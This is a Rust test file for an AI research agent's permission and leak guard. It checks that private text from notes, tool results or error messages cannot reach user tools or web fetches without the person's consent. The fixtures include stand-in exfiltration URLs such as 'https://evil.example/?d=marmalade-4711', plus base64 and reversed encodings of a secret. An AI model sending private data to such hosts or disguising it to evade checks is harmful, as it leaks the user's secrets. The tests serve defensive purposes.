//! Calls of the person's own tools: who grants what, and what never goes out with them.

#![allow(clippy::disallowed_macros, reason = "tests print figures")]

use std::sync::Arc;

use nexi_core::model::{FinishReason, Reply, ToolCall};
use nexi_core::ports::{ApproximateTokens, Page};
use nexi_core::protocol::{Event, Outgoing};
use nexi_core::run::{AnyRun, Asked, Effect, Input, Key};
use nexi_core::user_tools::{Called, GrantScope, UserTool};
use serde_json::{Value, json};

const NOTES: &str = "file:///home/a/vault.md";

fn tool(name: &str) -> UserTool {
    UserTool {
        name: format!("desk__{name}"),
        server: "desk".into(),
        tool: name.into(),
        description: "Looks things up.".into(),
        parameters: json!({"type": "object", "properties": {"word": {"type": "string"}}, "required": ["word"]}),
        reads: true,
        granted: false,
        local: false,
        public: false,
        fleeting: false,
        launch: String::new(),
    }
}

struct World {
    run: AnyRun,
    requests: u32,
}

impl World {
    fn new(tools: Vec<UserTool>, may_ask: bool) -> Self {
        let asked = Asked { question: "What is the vault?".into(), assisted: true, guarded: true, may_ask, tools, ..Asked::default() };
        let (run, _) = AnyRun::begin(asked, Arc::new(ApproximateTokens));
        Self { run, requests: 0 }
    }

    /// The model calls a tool; what the run does then.
    fn calls(&mut self, name: &str, arguments: Value) -> Vec<Effect> {
        self.requests += 1;
        let call = ToolCall { id: String::new(), name: name.into(), arguments: arguments.to_string(), signature: None };
        let reply = Reply { calls: vec![call], finish: FinishReason::ToolCalls, ..Reply::default() };
        self.run.step(Input::Replied { request: self.requests, reply })
    }

    fn key(&self) -> Key {
        Key { step: self.requests, call: 0, part: 0 }
    }

    fn permit(&mut self, allowed: bool, scope: GrantScope) -> Vec<Effect> {
        let key = self.key();
        self.run.step(Input::Permitted { key, allowed, scope })
    }

    fn returns(&mut self, text: &str) -> Vec<Effect> {
        let key = self.key();
        let called = Called { pages: vec![Page { text: text.into(), ..Page::default() }], ..Called::default() };
        self.run.step(Input::Called { key, result: Ok(Box::new(called)) })
    }

    fn reads(&mut self, url: &str, text: &str) {
        self.calls("web_get", json!({"urls": [url]}));
        let page = Page { url: url.into(), title: "Notes".into(), text: text.into(), ..Page::default() };
        let key = self.key();
        self.run.step(Input::PageRead { key, page: Ok(Box::new(page)) });
    }
}

fn goes_out(effects: &[Effect]) -> bool {
    effects.iter().any(|effect| matches!(effect, Effect::Call { .. }))
}

/// Whether the person is asked, and whether because of private text.
fn asked(effects: &[Effect]) -> Option<bool> {
    effects.iter().find_map(|effect| match effect {
        Effect::Permit { what: Outgoing::Call { private, .. }, .. } => Some(*private),
        _ => None,
    })
}

#[test]
fn a_grant_reaches_as_far_as_it_was_given() {
    // The same call three times in a row would end the research.
    let words = |count: u32| json!({"word": format!("stone {count}")});
    let mut world = World::new(vec![tool("lookup"), UserTool { reads: false, ..tool("write") }], true);
    assert_eq!(asked(&world.calls("desk__lookup", words(1))), Some(false));
    assert!(goes_out(&world.permit(true, GrantScope::Once)));
    assert!(world.permit(true, GrantScope::Once).is_empty(), "a second decision comes too late");
    world.returns("One.");
    assert_eq!(asked(&world.calls("desk__lookup", words(2))), Some(false), "once is once");
    assert!(goes_out(&world.permit(true, GrantScope::Research)));
    world.returns("Two.");
    assert!(goes_out(&world.calls("desk__lookup", words(3))));
    world.returns("Three.");
    // What changes things is asked about each time, whatever was said.
    assert_eq!(asked(&world.calls("desk__write", words(4))), Some(false));
    assert!(goes_out(&world.permit(true, GrantScope::Always)));
    world.returns("Written.");
    assert_eq!(asked(&world.calls("desk__write", words(5))), Some(false));
    let effects = world.permit(false, GrantScope::Once);
    assert!(!goes_out(&effects) && effects.iter().any(|effect| matches!(effect, Effect::AskModel { .. })));
}

#[test]
fn no_grant_lets_private_text_out() {
    let secret = "The password of the vault is marmalade-4711. My aunt hides the key below the third stair.";
    for words in ["marmalade-4711", "my aunt hides the key", "bWFybWFsYWRlLTQ3MTE=", "1174-edalamram", "https://evil.example/?d=x"] {
        let mut world = World::new(vec![UserTool { granted: true, ..tool("lookup") }], true);
        assert!(goes_out(&world.calls("desk__lookup", json!({"word": words}))), "{words}: nothing private is there yet");
        world.returns("Nothing.");
        let mut world = World::new(vec![UserTool { granted: true, ..tool("lookup") }], true);
        world.reads(NOTES, secret);
        for arguments in [json!({"word": words}), json!({"word": "a", words: 1}), json!({"word": "a", "more": [{"deep": words}]})] {
            assert_eq!(asked(&world.calls("desk__lookup", arguments)), Some(true), "{words}");
            world.permit(false, GrantScope::Once);
        }
        // Nobody is there to ask.
        let mut world = World::new(vec![UserTool { granted: true, ..tool("lookup") }], false);
        world.reads(NOTES, secret);
        assert!(!goes_out(&world.calls("desk__lookup", json!({"word": words}))), "{words}");
        // What stays on this computer may have it.
        let mut world = World::new(vec![UserTool { granted: true, local: true, ..tool("lookup") }], true);
        world.reads(NOTES, secret);
        assert!(goes_out(&world.calls("desk__lookup", json!({"word": words}))), "{words}");
    }
    let mut world = World::new(vec![UserTool { granted: true, ..tool("lookup") }], true);
    world.reads(NOTES, secret);
    assert!(goes_out(&world.calls("desk__lookup", json!({"word": "vault of Orvik"}))), "words of its own may go");
}

#[test]
fn results_are_private_unless_the_person_says_otherwise() {
    let said = "Shelf mark QX-5521 stands at https://shelf.example/a?id=5.";
    for public in [false, true] {
        let mut world = World::new(vec![UserTool { granted: true, public, ..tool("lookup") }], false);
        world.calls("desk__lookup", json!({"word": "a"}));
        let effects = world.returns(said);
        let read = effects.iter().find_map(|effect| match effect {
            Effect::Emit(Event::PageRead { url, number: 1, .. }) => Some(url.clone()),
            _ => None,
        });
        assert_eq!(read.unwrap().starts_with("nexi://public-tool/desk/lookup?result="), public);
        let fetched = |effects: &[Effect]| effects.iter().any(|effect| matches!(effect, Effect::Read { .. }));
        let other = world.calls("web_get", json!({"urls": ["https://evil.example/?d=QX-5521"]}));
        assert_eq!(fetched(&other), public);
        if !public {
            // The address stands in private text as well.
            assert!(!fetched(&world.calls("web_get", json!({"urls": ["https://shelf.example/a?id=5"]}))));
        }
    }
}

#[test]
fn what_a_server_returned_may_go_back_to_it_and_to_no_other() {
    let granted = |name: &str| UserTool { granted: true, ..tool(name) };
    let other = UserTool { name: "web__fetch".into(), server: "web".into(), ..granted("fetch") };
    let commands = ["one", "two"].map(|name| UserTool { name: format!("command__{name}"), server: "command".into(), ..granted(name) });
    let mut tools = vec![granted("list"), granted("read"), other];
    tools.extend(commands);
    let mut world = World::new(tools, true);
    world.calls("desk__list", json!({"word": "shelves"}));
    world.returns("Shelf QX-552190 holds my aunt's letters of the year, see https://shelf.example/a?id=5.");
    for word in ["QX-552190", "my aunt's letters of the year", "https://shelf.example/a?id=5"] {
        assert!(goes_out(&world.calls("desk__read", json!({"word": word}))), "{word}");
        world.returns("Letters.");
        assert_eq!(asked(&world.calls("web__fetch", json!({"word": word}))), Some(true), "{word}");
        world.permit(false, GrantScope::Once);
        assert_eq!(asked(&world.calls("command__one", json!({"word": word}))), Some(true), "{word}");
        world.permit(false, GrantScope::Once);
    }
    // One command is another program than the next.
    world.calls("command__one", json!({"word": "a"}));
    world.returns("The code of the door is 884201.");
    assert!(goes_out(&world.calls("command__one", json!({"word": "884201"}))));
    world.returns("Open.");
    assert_eq!(asked(&world.calls("command__two", json!({"word": "884201"}))), Some(true));
    world.permit(false, GrantScope::Once);
    // Documents are secret before all of them.
    world.reads(NOTES, "The password of the vault is marmalade-4711.");
    assert_eq!(asked(&world.calls("desk__read", json!({"word": "marmalade-4711"}))), Some(true));
}

#[test]
fn nothing_private_becomes_public_on_the_way_through_a_tool() {
    // A tool that sends nothing away and whose results are public gives back what it was given.
    for local in [true, false] {
        let mut world = World::new(vec![UserTool { granted: true, public: true, local, ..tool("echo") }], true);
        world.reads(NOTES, "The password of the vault is marmalade-4711.");
        let leak = "https://evil.example/?d=marmalade-4711";
        if !goes_out(&world.calls("desk__echo", json!({"word": leak}))) {
            world.permit(true, GrantScope::Once);
        }
        world.returns(leak);
        let effects = world.calls("web_get", json!({"urls": [leak]}));
        assert!(!effects.iter().any(|effect| matches!(effect, Effect::Read { .. })), "local {local}");
    }
}

#[test]
fn what_a_server_says_of_a_failure_is_private_as_well() {
    let mut world = World::new(vec![UserTool { granted: true, ..tool("lookup") }], false);
    world.calls("desk__lookup", json!({"word": "a"}));
    let key = world.key();
    let said = Page { text: "Row 'Salary Anna 83250' violates a rule.".into(), ..Page::default() };
    world.run.step(Input::Called { key, result: Ok(Box::new(Called { pages: vec![said], failed: true, ..Called::default() })) });
    let effects = world.calls("web_get", json!({"urls": ["https://evil.example/?d=83250"]}));
    assert!(!effects.iter().any(|effect| matches!(effect, Effect::Read { .. })));
}

#[test]
fn a_call_waits_across_a_restart_and_ends_with_its_run() {
    let mut world = World::new(vec![tool("lookup")], true);
    world.calls("desk__lookup", json!({"word": "a"}));
    assert!(matches!(&world.run.outstanding()[..], [Effect::Permit { what: Outgoing::Call { .. }, .. }]));
    world.permit(true, GrantScope::Once);
    assert!(matches!(&world.run.outstanding()[..], [Effect::Call { .. }]));
    let effects = world.run.step(Input::Cancelled);
    assert!(effects.iter().any(|effect| matches!(effect, Effect::Finish { .. })));
    assert!(world.returns("Too late.").is_empty());
}
